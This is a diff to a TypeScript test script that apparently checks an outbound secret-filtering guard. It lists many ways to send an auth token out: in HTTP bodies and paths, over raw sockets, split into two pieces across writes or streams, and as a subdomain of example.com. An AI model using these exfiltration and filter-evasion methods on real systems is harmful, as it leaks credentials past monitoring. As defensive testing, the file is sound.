@@ -2,6 +2,7 @@ import { createSocket } from 'node:dgram'
 import { request } from 'node:http'
 import { connect as connectHttp2 } from 'node:http2'
 import { connect } from 'node:net'
+import { Readable } from 'node:stream'
 import { runInNewContext } from 'node:vm'
 import { Agent, Pool, request as undiciRequest } from 'undici'
 
@@ -11,6 +12,7 @@ import { Agent, Pool, request as undiciRequest } from 'undici'
  */
 const { TARGET = '', VALUE: secret = '' } = process.env
 const { hostname, port } = new URL(TARGET)
+const halves = [secret.slice(0, 9), secret.slice(9)]
 const header = { 'x-velt-auth-token': secret }
 
 const ways: Readonly<Record<string, () => Promise<unknown>>> = {
@@ -31,8 +33,13 @@ const ways: Readonly<Record<string, () => Promise<unknown>>> = {
   'node:http, in the address': () => viaHttp(`/${secret}`, {}, ''),
   'node:http, lawful': () => viaHttp('/', header, 'plain'),
   'node:http, in the body': () => viaHttp('/', header, secret),
+  'node:http, in two pieces of a body': () => viaHttp('/', {}, ...halves),
+  'fetch, in two pieces of a stream': () =>
+    fetch(TARGET, { method: 'POST', body: new Blob(halves).stream(), duplex: 'half' } as RequestInit),
+  'undici, in two pieces of a stream': () =>
+    undiciRequest(TARGET, { dispatcher: new Agent(), method: 'POST', body: Readable.from(halves) }),
   'a socket': () => viaSocket([secret]),
-  'a socket, in two writes': () => viaSocket([secret.slice(0, 9), secret.slice(9)]),
+  'a socket, in two writes': () => viaSocket(halves),
   'a socket, a header with no request': () => viaSocket([`x-velt-auth-token: ${secret}\r\n\r\n`]),
   'a socket, as a DataView': () => viaSocket([dataView(secret)]),
   'a socket, as 16-bit words': () => viaSocket([new Uint16Array(dataView(secret).buffer)]),
@@ -45,13 +52,13 @@ const ways: Readonly<Record<string, () => Promise<unknown>>> = {
   'the name of a host': () => fetch(`http://${secret}.example.com/`),
 }
 
-function viaHttp(path: string, headers: Record<string, string>, body: string): Promise<void> {
+function viaHttp(path: string, headers: Record<string, string>, ...body: string[]): Promise<void> {
   return new Promise((resolve, reject) => {
-    request({ host: hostname, port, path, method: 'POST', headers }, (response) => {
+    const sent = request({ host: hostname, port, path, method: 'POST', headers }, (response) => {
       response.resume().on('end', resolve)
-    })
-      .on('error', reject)
-      .end(body)
+    }).on('error', reject)
+    for (const piece of body.slice(0, -1)) sent.write(piece)
+    sent.end(body.at(-1))
   })
 }
 
